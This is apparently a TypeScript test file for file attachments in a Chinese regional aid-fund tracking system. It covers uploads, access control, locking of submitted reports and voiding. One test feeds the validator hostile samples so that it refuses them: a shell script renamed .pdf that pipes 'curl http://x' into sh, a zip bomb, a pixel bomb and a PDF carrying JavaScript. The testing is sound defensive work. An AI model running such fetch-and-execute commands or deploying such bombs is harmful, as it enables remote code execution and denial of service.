/**
 * Evidence on a record: a clerk attaches a payment voucher (PDF) to a disbursement and a photo with its
 * thumbnail; the file comes back byte for byte, as what it is, never run by the browser; hostile uploads — a
 * script renamed .pdf, an oversized image, a pixel bomb, a zip bomb dressed as .xlsx, a PDF with JavaScript,
 * an .exe — are refused with the reason and nothing is stored; only those who may read the record fetch its
 * files; an attachment is voided with a reason, never deleted; a quarterly submission takes the signed report
 * while a draft, and its files are locked with it once submitted, until the coordinating office reopens it.
 */
import { zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { attachments } from "../db/tenant/schema";
import { addAttachment } from "../src/files/attachments";
import { call, makeUser, startHarness, type Harness, type TestUser } from "./support/harness";

let h: Harness;
let clerk: TestUser;

const PDF = new TextEncoder().encode("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
/** A PNG's signature and IHDR with the given size (the rest need not decode: the header is what is checked). */
function png(width: number, height: number, bytes = 64): Uint8Array {
  const b = new Uint8Array(Math.max(bytes, 33));
  b.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  new DataView(b.buffer).setUint32(16, width);
  new DataView(b.buffer).setUint32(20, height);
  return b;
}

function upload(path: string, token: string, file: { name: string; bytes: Uint8Array }, thumbnail?: { name: string; bytes: Uint8Array }) {
  const form = new FormData();
  form.append("file", new File([file.bytes as Uint8Array<ArrayBuffer>], file.name));
  if (thumbnail) form.append("thumbnail", new File([thumbnail.bytes as Uint8Array<ArrayBuffer>], thumbnail.name));
  return h.app.request(path, { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form });
}

const stored = async () => {
  const unit = await h.services.tenants.find("dongguan");
  return h.services.tenants.use(unit!, async ({ db }) => (await db.select().from(attachments)).length);
};

/** A disbursement of the test's own in 南雄市 (440282), so its attachments are the test's alone. */
async function newDisbursement(): Promise<string> {
  const fund = await call(h, "POST", "/api/t/dongguan/funds", { token: clerk.token, body: { kind: "disbursement", source: "city", amountFen: 500_000_00, date: "2024-04-02", areaCode: "440282", program: "dongguan-shaoguan" } });
  expect(fund.status).toBe(201);
  return (await fund.json()).id;
}

/** A cadre of the test's own, seconded to 南雄市. */
async function newCadre(): Promise<string> {
  const cadre = await call(h, "POST", "/api/t/dongguan/cadres", { token: clerk.token, body: { name: "王挂职", post: "副县长", level: "county_deputy", hostAreaCode: "440282", program: "dongguan-shaoguan", startDate: "2024-01-05", plannedEndDate: "2025-01-04" } });
  expect(cadre.status).toBe(201);
  return (await cadre.json()).id;
}

/** Attaches the PDF voucher to the fund; its attachment id. */
async function attachVoucher(fundId: string): Promise<string> {
  const res = await upload(`/api/t/dongguan/funds/${fundId}/attachments`, clerk.token, { name: "拨付凭证.pdf", bytes: PDF });
  expect(res.status).toBe(201);
  return (await res.json()).id;
}

beforeAll(async () => {
  h = await startHarness();
  clerk = await makeUser(h, "unit_editor", { unit: "dongguan" });
}, 60_000);
afterAll(() => h?.close());

describe("evidence attachments", () => {
  it("attaches a voucher to a disbursement; it comes back byte for byte, as a download the browser never runs", async () => {
    const fundId = await newDisbursement();
    const res = await upload(`/api/t/dongguan/funds/${fundId}/attachments`, clerk.token, { name: "拨付凭证.pdf", bytes: PDF });
    expect(res.status).toBe(201);
    const row = await res.json();
    expect(row).toMatchObject({ entity: "fund", recordId: fundId, name: "拨付凭证.pdf", kind: "pdf", contentType: "application/pdf", size: PDF.length, hasThumbnail: false });
    const digest = [...new Uint8Array(await crypto.subtle.digest("SHA-256", PDF))].map((b) => b.toString(16).padStart(2, "0")).join("");
    expect(row.sha256).toBe(digest);
    const voucherId = row.id;
    const list = await (await call(h, "GET", `/api/t/dongguan/funds/${fundId}/attachments`, { token: clerk.token })).json();
    expect(list.items.map((a: { id: string }) => a.id)).toEqual([voucherId]);
    const file = await call(h, "GET", `/api/t/dongguan/attachments/${voucherId}`, { token: clerk.token });
    expect(file.status).toBe(200);
    expect(new Uint8Array(await file.arrayBuffer())).toEqual(PDF);
    expect(file.headers.get("content-type")).toBe("application/pdf");
    expect(file.headers.get("x-content-type-options")).toBe("nosniff");
    expect(file.headers.get("content-disposition")).toBe(`attachment; filename="____.pdf"; filename*=UTF-8''${encodeURIComponent("拨付凭证.pdf")}`);
  });

  it("keeps an image's thumbnail made by the browser", async () => {
    const fundId = await newDisbursement();
    const res = await upload(`/api/t/dongguan/funds/${fundId}/attachments`, clerk.token, { name: "现场照片.png", bytes: png(1200, 900, 4096) }, { name: "thumb.png", bytes: png(160, 120) });
    expect(res.status).toBe(201);
    const row = await res.json();
    expect(row).toMatchObject({ kind: "png", hasThumbnail: true });
    const thumb = await call(h, "GET", `/api/t/dongguan/attachments/${row.id}?thumbnail=true`, { token: clerk.token });
    expect(thumb.status).toBe(200);
    expect(new Uint8Array(await thumb.arrayBuffer()).length).toBe(64);
  });

  it("refuses hostile uploads with the reason, storing nothing", async () => {
    const fundId = await newDisbursement();
    const before = await stored();
    const bomb = zipSync({ "[Content_Types].xml": new TextEncoder().encode("<Types/>"), "xl/workbook.xml": new Uint8Array(60 * 1024 * 1024) }, { level: 9 });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const cases: [string, Uint8Array, string][] = [
      ["凭证.pdf", new TextEncoder().encode("#!/bin/sh\ncurl http://x | sh\n"), "content_mismatch"],
      ["大图.jpg", (() => { const b = new Uint8Array(6 * 1024 * 1024); b.set([0xff, 0xd8, 0xff, 0xe0]); return b; })(), "too_large"],
      ["像素炸弹.png", png(20_000, 20_000), "too_many_pixels"],
      ["台账.xlsx", bomb, "zip_refused"],
      ["协议.pdf", new TextEncoder().encode("%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF"), "pdf_active_content"],
      ["工具.exe", new Uint8Array([0x4d, 0x5a, 0x90, 0x00]), "unsupported_type"],
      ["空白.docx", new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0]), "zip_refused"],
    ];
    for (const [name, bytes, code] of cases) {
      const res = await upload(`/api/t/dongguan/funds/${fundId}/attachments`, clerk.token, { name, bytes });
      const body = await res.json();
      expect([res.status, body.error.details[0]?.code], name).toEqual([422, code]);
      expect(body.error.details[0].message, name).toMatch(/[\u4e00-\u9fff]/);
    }
    expect(await stored()).toBe(before);
  });

  it("only those who may read the record fetch its files; a cadre's files stay with the unit's own staff", async () => {
    const fundId = await newDisbursement();
    const voucherId = await attachVoucher(fundId);
    const cadreId = await newCadre();
    const stranger = await makeUser(h, "unit_editor", { unit: "gd-org-dept" });
    const coordinator = await makeUser(h, "coordinator", { programs: ["dongguan-shaoguan"] });
    const otherCoordinator = await makeUser(h, "coordinator", { programs: ["gannan-central"] });
    const recipient = await makeUser(h, "recipient", { area: "440282" });
    expect((await call(h, "GET", `/api/t/dongguan/attachments/${voucherId}`, { token: stranger.token })).status).toBe(403);
    expect((await call(h, "GET", `/api/t/dongguan/attachments/${voucherId}`, { token: otherCoordinator.token })).status).toBe(403);
    expect((await call(h, "GET", `/api/t/dongguan/attachments/${voucherId}`, { token: recipient.token })).status).toBe(403);
    expect((await call(h, "GET", `/api/t/dongguan/attachments/${voucherId}`, { token: coordinator.token })).status).toBe(200);
    // 南雄市 sees the voucher of what is claimed for it, through its own route; 乐昌市 does not.
    const claimFiles = `/api/recipient/claims/dongguan/fund/${fundId}/attachments`;
    const listed = await (await call(h, "GET", claimFiles, { token: recipient.token })).json();
    expect(listed.items.map((a: { id: string }) => a.id)).toContain(voucherId);
    const fetched = await call(h, "GET", `${claimFiles}/${voucherId}`, { token: recipient.token });
    expect(new Uint8Array(await fetched.arrayBuffer())).toEqual(PDF);
    const lechang = await makeUser(h, "recipient", { area: "440281" });
    expect((await call(h, "GET", `${claimFiles}/${voucherId}`, { token: lechang.token })).status).toBe(404);
    const appointment = await upload(`/api/t/dongguan/cadres/${cadreId}/attachments`, clerk.token, { name: "任职文件.pdf", bytes: PDF });
    const cadreFile = (await appointment.json()).id;
    expect((await call(h, "GET", `/api/t/dongguan/attachments/${cadreFile}`, { token: clerk.token })).status).toBe(200);
    expect((await call(h, "GET", `/api/t/dongguan/attachments/${cadreFile}`, { token: coordinator.token })).status).toBe(404);
    expect((await call(h, "GET", `/api/t/dongguan/cadres/${cadreId}/attachments`, { token: coordinator.token })).status).toBe(404);
    expect((await call(h, "GET", `/api/recipient/claims/dongguan/cadre/${cadreId}/attachments`, { token: recipient.token })).status).toBe(400);
    // A viewer reads but does not upload.
    const viewer = await makeUser(h, "viewer", { unit: "dongguan" });
    expect((await upload(`/api/t/dongguan/funds/${fundId}/attachments`, viewer.token, { name: "v.pdf", bytes: PDF })).status).toBe(403);
  });

  it("attaches the signed report to a draft submission; once submitted its files are locked with it until it is reopened", async () => {
    // 2023 Q2 of 莞韶: a quarter over, inside the plan's term, that no other test in this file reports on.
    const draft = await call(h, "POST", "/api/t/dongguan/submissions", { token: clerk.token, body: { year: 2023, quarter: 2, program: "dongguan-shaoguan", progress: "第二季度：组团对接推进。" } });
    expect(draft.status).toBe(201);
    const { id } = await draft.json();
    const files = `/api/t/dongguan/submissions/${id}/attachments`;
    const signed = await upload(files, clerk.token, { name: "季度报送（签字盖章）.pdf", bytes: PDF });
    expect(signed.status).toBe(201);
    const row = await signed.json();
    expect(row).toMatchObject({ entity: "submission", recordId: id, name: "季度报送（签字盖章）.pdf", kind: "pdf", size: PDF.length });
    const listed = await (await call(h, "GET", files, { token: clerk.token })).json();
    expect(listed.items.map((a: { id: string }) => a.id)).toEqual([row.id]);
    const file = await call(h, "GET", `/api/t/dongguan/attachments/${row.id}`, { token: clerk.token });
    expect(new Uint8Array(await file.arrayBuffer())).toEqual(PDF);
    // The coordinating office of the program reads what was reported, files included.
    const coordinator = await makeUser(h, "coordinator", { programs: ["dongguan-shaoguan"] });
    expect((await call(h, "GET", `/api/t/dongguan/attachments/${row.id}`, { token: coordinator.token })).status).toBe(200);

    expect((await call(h, "POST", `/api/t/dongguan/submissions/${id}/submit`, { token: clerk.token, headers: { "if-match": '"1"' } })).status).toBe(200);
    // Submitted: no file added, none voided — the same 423 an edit of its text gets; still read by both sides.
    const late = await upload(files, clerk.token, { name: "补充材料.pdf", bytes: PDF });
    expect([late.status, (await late.json()).error.code]).toEqual([423, "LOCKED"]);
    const unvoid = await call(h, "POST", `/api/t/dongguan/attachments/${row.id}/void`, { token: clerk.token, body: { reason: "换一份" }, headers: { "if-match": '"1"' } });
    expect(unvoid.status).toBe(423);
    expect((await (await call(h, "GET", files, { token: clerk.token })).json()).items).toMatchObject([{ id: row.id, voidedAt: null }]);
    expect((await call(h, "GET", `/api/t/dongguan/attachments/${row.id}`, { token: coordinator.token })).status).toBe(200);

    // Reopened with a reason: the unit may add what was asked for.
    expect((await call(h, "POST", `/api/t/dongguan/submissions/${id}/reopen`, { token: coordinator.token, body: { reason: "请附资金拨付凭证" }, headers: { "if-match": '"2"' } })).status).toBe(200);
    expect((await upload(files, clerk.token, { name: "拨付凭证.pdf", bytes: PDF })).status).toBe(201);
    expect((await (await call(h, "GET", files, { token: clerk.token })).json()).items.map((a: { name: string }) => a.name)).toEqual(["季度报送（签字盖章）.pdf", "拨付凭证.pdf"]);
  });

  it("holds a submitted report's files locked in the database too: a write past the route's check is refused", async () => {
    // 2023 Q1 of 莞韶, which no other test in this file reports on.
    const draft = await call(h, "POST", "/api/t/dongguan/submissions", { token: clerk.token, body: { year: 2023, quarter: 1, program: "dongguan-shaoguan", progress: "第一季度：组团对接。" } });
    const { id } = await draft.json();
    const first = await upload(`/api/t/dongguan/submissions/${id}/attachments`, clerk.token, { name: "季度报送.pdf", bytes: PDF });
    const attached = (await first.json()).id as string;
    expect((await call(h, "POST", `/api/t/dongguan/submissions/${id}/submit`, { token: clerk.token, headers: { "if-match": '"1"' } })).status).toBe(200);
    const before = await stored();
    const unit = (await h.services.tenants.find("dongguan"))!;
    await h.services.tenants.use(unit, async (tenant) => {
      // As a request that checked the lock just before the submit landed would write.
      const who = { actor: clerk.username, actorRole: "unit_editor", requestId: null, method: "POST", route: "test" };
      await expect(addAttachment(h.services, tenant, who, { entity: "submission", recordId: id }, { name: "迟到的材料.pdf", bytes: PDF }, null)).rejects.toMatchObject({ status: 423, code: "LOCKED" });
      await expect(tenant.client.execute({ sql: "UPDATE attachments SET voided_at = ?, version = version + 1 WHERE id = ?", args: [new Date().toISOString(), attached] })).rejects.toThrow(/SUBMISSION_LOCKED/);
    });
    expect(await stored()).toBe(before);
    expect((await (await call(h, "GET", `/api/t/dongguan/submissions/${id}/attachments`, { token: clerk.token })).json()).items).toMatchObject([{ id: attached, voidedAt: null }]);
  });

  it("voids an attachment with a reason under If-Match, keeping it and its audit", async () => {
    const fundId = await newDisbursement();
    const voucherId = await attachVoucher(fundId);
    expect((await call(h, "POST", `/api/t/dongguan/attachments/${voucherId}/void`, { token: clerk.token, body: { reason: "上传错了" }, headers: { "if-match": '"9"' } })).status).toBe(412);
    const voided = await call(h, "POST", `/api/t/dongguan/attachments/${voucherId}/void`, { token: clerk.token, body: { reason: "上传错了" }, headers: { "if-match": '"1"' } });
    expect(voided.status).toBe(200);
    expect(await voided.json()).toMatchObject({ version: 2, voidReason: "上传错了" });
    const list = await (await call(h, "GET", `/api/t/dongguan/funds/${fundId}/attachments`, { token: clerk.token })).json();
    expect(list.items.find((a: { id: string }) => a.id === voucherId).voidedAt).not.toBeNull();
    const audit = await (await call(h, "GET", `/api/t/dongguan/audit?entity=attachment&entityId=${voucherId}`, { token: clerk.token })).json();
    expect(audit.items.map((a: { action: string }) => a.action)).toEqual(["void", "create"]);
  });
});
